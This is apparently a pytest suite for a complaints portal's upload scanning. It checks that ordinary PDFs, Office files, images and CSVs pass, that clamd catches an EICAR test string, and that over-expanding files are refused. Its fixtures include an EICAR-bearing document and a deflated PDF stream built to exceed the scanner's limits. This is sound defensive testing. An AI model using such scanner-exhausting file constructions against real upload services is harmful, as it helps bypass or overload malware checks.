     office({**XLSX_PARTS, "xl/media/image1.bmp": image("BMP"), "xl/media/image2.tiff": image("TIFF")})),
    ("simple.pdf", PDF_BYTES),
    ("modern.pdf", pdf(CATALOG, PAGES, object_stream(b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"),
     stream(b"/Filter /FlateDecode", zlib.compress(b"BT /F1 12 Tf (Paid <html> on 9/1) Tj ET")),
     b"<< /Type /Annot /Subtype /Link /A << /S /URI /URI (https://mco.example/js/launch/xfa.js) >> >>")),
    ("js-bytes-by-chance.pdf", pdf(CATALOG, PAGES, stream(b"/Filter /DCTDecode", JPEG + b"\x00/JS\x00/XFA "))),
    ("xmp.pdf", pdf(CATALOG, PAGES, stream(b"/Type /Metadata /Subtype /XML",
     b'<?xpacket begin="" id="W5M0MpCehiHzreSzNTczkc9d"?><x:xmpmeta xmlns:x="adobe:ns:meta/"/>'))),
    ("indirect-length.pdf", pdf(CATALOG, PAGES, b"<< /Length 4 0 R /Filter /DCTDecode >>\nstream\n" + JPEG
     + b"/JS /XFA\nendstream", b"400")),
    ("restricted.pdf", pdf(CATALOG, PAGES, b"<< /Filter /Standard /V 2 /R 3 /P -3904 >>",
     trailer=b"<< /Root 1 0 R /Encrypt 3 0 R >>")),
    ("embedded-font.docx", docx({"word/fonts/font1.odttf": bytes(range(100, 144)) + b"".join(
     tag + bytes(12) for tag in (b"OS/2", b"cmap", b"glyf", b"head", b"hhea", b"hmtx")) + bytes(200)})),
    ("photo.png", PNG),
    ("utf16-custom-xml.docx", docx({"customXml/item2.xml": '<?xml version="1.0" encoding="utf-16"?>\r\n<b:Sources/>'
     .encode("utf-16")})),
    ("photo.jpg", JPEG),
    ("scan.tiff", image("TIFF")),
    ("pillow-photo.pdf", pillow_pdf("RGB")),
    ("pillow-scan.pdf", pillow_pdf("1")),
    ("pillow-grey.pdf", pillow_pdf("L")),
    ("xref-stream.pdf", pdf(CATALOG, PAGES, stream(b"/Type /XRef /W [1 2 1] /Size 3 /Filter /FlateDecode "
     b"/DecodeParms << /Columns 4 /Predictor 12 >>", zlib.compress(bytes(range(15)))), stream(
     b"/Type /ObjStm /N 1 /First 4 /Filter [/ASCIIHexDecode /FlateDecode]", zlib.compress(b"9 0 << /A 1 >>").hex()
     .encode() + b">"), b"<< /Type /Font /BaseFont /Helvetica (a string with 1 0 obj and % in it) >>")),
    ("lzw-and-pixels.pdf", pdf(CATALOG, PAGES, stream(b"/Filter /LZWDecode", b"\x80\x0b\x60\x50"),
     stream(b"/Subtype /Image /Filter [/FlateDecode /DCTDecode]", zlib.compress(JPEG)),
     stream(b"/Filter /RunLengthDecode", b"\x02abc\xfdx\x80"))),
    ("text-with-brackets.txt", b"Rates: <base rate> on <form 1500>; if a < b > c then <link to follow>.\n"
     b"- Called the MCO on 09/01.\n+ Paid after appeal.\n"),
    ("billing.csv", ",".join(CSV_COLUMNS).encode() + b"\r\n" + b"Pat Doe,123456789,09/01/2026,09/02/2026,"
     b"CLM-1,-12.50\r\n" + b'Lee,987654321,2026-09-01,2026-09-01,"A-2, B",+1 217 555 0100\r\n'
     b"Kim,111222333,9/1/2026,9/1/2026,-,1,234.56\r\n" + b"Ann,444555666,,,C3,(12.50)\r\n"),
    ("claims.csv",
     b"member,rin,amount,notes\nPat,123456789,-12.50,paid <base rate>\n" * 3000 + b"Lee,987654321,1,<2\n"),
    ("long-notes.txt", "Résumé of calls with the MCO; 5 > 3.\n".encode() * 4000),
    # A Word document with an ordinary web link (an external relationship of the hyperlink type).
    ("letter-with-a-link.docx", docx({"word/_rels/document.xml.rels": b'<Relationships><Relationship Id="rId5" '
     b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" '
     b'Target="https://www.illinois.gov/hfs" TargetMode="External"/></Relationships>'})),
    # Review: an older writer's DOS end-of-file mark after %%EOF.
    ("old-writer.pdf", PDF_BYTES + b"\x1a"),
    # Review: phone photos carry data after the picture (Samsung's trailer, a Pixel motion photo's video, padding).
    ("samsung-photo.jpg", JPEG + b"\x00\x00SEFH" + b"\x01\x00\x00\x00" * 8 + b"SEFT"),
    ("motion-photo.jpg", JPEG + b"\x00\x00\x00\x18ftypmp42\x00\x00\x00\x00mp42isom" + b"\x00" * 64),
    ("padded-photo.jpg", JPEG + b"\n"),
    ("letter-with-a-phone-photo.docx",
     docx({"word/media/image3.jpeg": JPEG + b"\x00\x00SEFH" + b"\x00" * 40 + b"SEFT"})),
    # Review: a letter made from a template on the writer's own computer, and a mail merge from a local list.
    ("letter-from-a-local-template.docx", docx({"word/_rels/settings.xml.rels": b'<Relationships><Relationship '
     b'Id="rId1" Type="REL/attachedTemplate" Target="file:///C:\\Users\\pat\\Templates\\Letterhead.dotx" '
     b'TargetMode="External"/><Relationship Id="rId2" Type="REL/mailMergeSource" Target="file:///C:\\data\\'
     b'members.xlsx" TargetMode="External"/></Relationships>'.replace(b"REL/", REL)})),
    # Notes a person writes: headings, dashes and sums are not formulas that call anything.
    ("call-notes.txt", b"=== Summary ===\n- Follow-up call (Tuesday) with Dr. Smith-Jones\n-5 days late\n=1+1\n"),
    ("notes.csv", b"member,notes\nPat,- Follow-up call (Tuesday)\nLee,=== see EOB ===\n"),
    # Review: billing notes with words in brackets, @names and sums are not formulas that reach out.
    ("billing-notes.txt", b"- Resubmitted claim(s) on 3/1\nCalled MCO, -denied per contract(2024)\n"
     b"@Meridian(IL) rep said resubmit\n- Denied(CO-97) twice\n- see image(2)\n- Follow-up call(s) made\n=1+1\n"),
    ("billing-notes.csv", b"provider,notes\nPat,+Home Health(IL)\nLee,@SUM(1)\n"),
]  # fmt: skip


@pytest.mark.parametrize(("name", "data"), GENUINE, ids=[name for name, _ in GENUINE])
def test_genuine_files_are_still_accepted_and_scanned(user, private_files, name, data):
    attachment = add(user, name, data)
    assert attachment.scan_status == Attachment.ScanStatus.CLEAN
    assert (private_files / attachment.stored_name).read_bytes() == data


def test_a_genuine_document_with_the_test_virus_is_still_caught_by_clamd(user, private_files):
    # The test virus is text, so it passes every check of the document's structure (a picture with it appended no
    # longer does: data after an image's end is refused); clamd finds it.
    with pytest.raises(ValidationError, match="a virus was found in this file"):
        add(user, "letter.docx", docx({"word/header1.xml": b"<w:hdr>" + eicar_bytes() + b"</w:hdr>"}, streamed=True))
    assert not Attachment.objects.exists() and list(private_files.iterdir()) == []


def test_an_over_long_name_keeps_its_extension(user, private_files):
    name = "Remittance advice " + "very long " * 40 + "final.pdf"
    kept = filetypes.check_name(name)
    # 255 bytes in UTF-8 at most (the ellipsis takes three): as long as file systems take.
    assert 250 <= len(kept.encode()) <= 255 and kept.startswith("Remittance advice") and kept.endswith("….pdf")
    # Django already shortens an upload's name the same way before the service sees it.
    attachment = add(user, name, PDF_BYTES)
    assert len(attachment.original_name) <= 255 and attachment.original_name.endswith(".pdf")


def test_a_long_name_in_a_non_latin_script_is_shortened_to_255_bytes():
    name = "Отказ в оплате " * 20 + ".pdf"  # under 255 characters, far over 255 bytes
    kept = filetypes.check_name(name)
    assert len(kept.encode()) <= 255 and kept.startswith("Отказ в оплате") and kept.endswith("….pdf")


@pytest.mark.parametrize("name", ["CON.pdf", "nul.txt", "Lpt1.csv", "com9.pdf", "aux .pdf"])
def test_names_windows_keeps_for_devices_are_refused_with_what_to_do(name):
    with pytest.raises(filetypes.Refused, match=r"Windows keeps this name for a device.*Rename the file"):
        filetypes.check_name(name)


@pytest.mark.parametrize("name", ["console.pdf", "CON-notes.pdf", "Nullified claims.pdf"])
def test_names_that_only_begin_like_a_device_are_kept(name):
    assert filetypes.check_name(name) == name


LIMITS = ("MaxScanSize", "MaxFileSize", "MaxRecursion", "MaxFiles", "StreamMaxLength")


def test_the_test_clamd_runs_with_the_shipped_limits():
    shipped = shipped_clamd_options()
    for option in LIMITS:
        assert shipped.get(option), option
    assert shipped["AlertExceedsMax"] == "yes" and shipped["AlertEncrypted"] == "yes"
    server = ClamdServer()
    try:
        config = dict(line.split(" ", 1) for line in server.config.read_text().splitlines())
    finally:
        server.remove()
    for option in (*LIMITS, "AlertExceedsMax", "AlertEncrypted"):
        assert config[option] == shipped[option], option
    assert config["DatabaseDirectory"] != shipped["DatabaseDirectory"]


def size(value: str) -> int:
    return int(value[:-1]) * {"K": 1024, "M": MB}[value[-1].upper()] if value[-1].isalpha() else int(value)


def test_clamds_limits_sit_above_everything_the_portal_lets_through(settings):
    # clamd skips a ZIP part over MaxFileSize without an alert: no part we accept may come near it.
    from complaints.filetypes._base import MAX_EXPANDED

    shipped = shipped_clamd_options()
    assert size(shipped["StreamMaxLength"]) > settings.PORTAL_ATTACHMENT_MAX_BYTES
    assert size(shipped["MaxFileSize"]) > 2 * MAX_EXPANDED
    # a document's XML is counted more than once against MaxScanSize (the part, then its normalized text)
    assert size(shipped["MaxScanSize"]) > 3 * MAX_EXPANDED
    assert int(shipped["MaxFiles"]) > 1000  # complaints.filetypes.office.MAX_ENTRIES


def test_docker_compose_clamd_uses_the_shipped_config():
    compose = yaml.safe_load((SHIPPED_CLAMD_CONF.parents[2] / "docker-compose.yml").read_text())
    (config,) = compose["services"]["clamav"]["configs"]
    assert config["target"] == "/etc/clamav/clamd.conf"
    assert compose["configs"][config["source"]]["file"] == "./deploy/clamav/clamd.conf"


def test_a_file_over_clamds_scan_limit_is_refused_never_stored_as_clean(user, private_files, settings, monkeypatch):
    # A PDF whose one stream expands past MaxFileSize and MaxScanSize (400 MB): clamd alerts rather than pass it ...
    data = pdf(CATALOG, PAGES, stream(b"/Filter /FlateDecode", deflated(zeros_then_eicar(420))))
    verdict = clamd.scan_chunks([data], address=settings.PORTAL_CLAMD_ADDRESS, timeout=300)
    assert not verdict.clean and verdict.signature.startswith("Heuristics.Limits.Exceeded")
    # ... the portal's own expansion limit refuses it before the scan ...
    with pytest.raises(ValidationError, match=r"eob\.pdf: the PDF expands too much to be checked safely"):
        add(user, "eob.pdf", data)
    # ... and were that limit ever raised above clamd's, clamd's alert still refuses it, with a message that says it
    # could not be checked (not "a virus").
    from complaints.filetypes import pdf as pdf_check

    monkeypatch.setattr(pdf_check, "MAX_EXPANDED", 10 * 1024 * MB)
    settings.PORTAL_CLAMD_TIMEOUT_SECONDS = 300
    with pytest.raises(ValidationError) as refused:
        add(user, "eob.pdf", data)
    message = " ".join(refused.value.messages)
    assert "eob.pdf: the file is too large, too deeply packed or password-protected to be checked" in message
    assert "split the file or save it as PDF" in message
    assert not Attachment.objects.exists() and list(private_files.iterdir()) == []


def test_a_document_part_clamd_would_skip_unscanned_is_refused_before_the_scan(user, private_files):
    # clamd skips a ZIP part over MaxFileSize without an alert, so the portal's own expansion limit (100 MB, below
    # it) must refuse such a document first, whatever its headers say.
    data = two_big_parts(101)
    with pytest.raises(ValidationError, match="expands too much to be checked safely"):
        add(user, "letter.docx", data)
    assert not Attachment.objects.exists() and list(private_files.iterdir()) == []


def test_a_pdf_printed_by_a_browser_is_accepted(user, private_files, tmp_path):
    # The refusals tell people to print the file to a new PDF: what a browser's "Save as PDF" writes (object
    # streams, compressed fonts and pictures, a link whose address says js/launch) must get through.
    import subprocess

    from tests.e2e.conftest import chromium_path

    (tmp_path / "picture.png").write_bytes(image("PNG"))
    (tmp_path / "page.html").write_text(
        "<html><body><h1>Remittance advice</h1><p>Paid &lt;html&gt; -12.50 on 9/1, ÄÖÜ € ✓. "
        '<a href="https://mco.example/js/launch.js">Appeal form</a></p><img src="picture.png" width=80></body></html>',
        encoding="utf-8",
    )
    printed = tmp_path / "printed.pdf"
    subprocess.run(
        [chromium_path(), "--headless", "--no-sandbox", "--disable-gpu", f"--print-to-pdf={printed}",
         (tmp_path / "page.html").as_uri()],
        check=True, capture_output=True, timeout=120,
    )  # fmt: skip
    attachment = add(user, "remittance.pdf", printed.read_bytes())
    assert attachment.scan_status == Attachment.ScanStatus.CLEAN
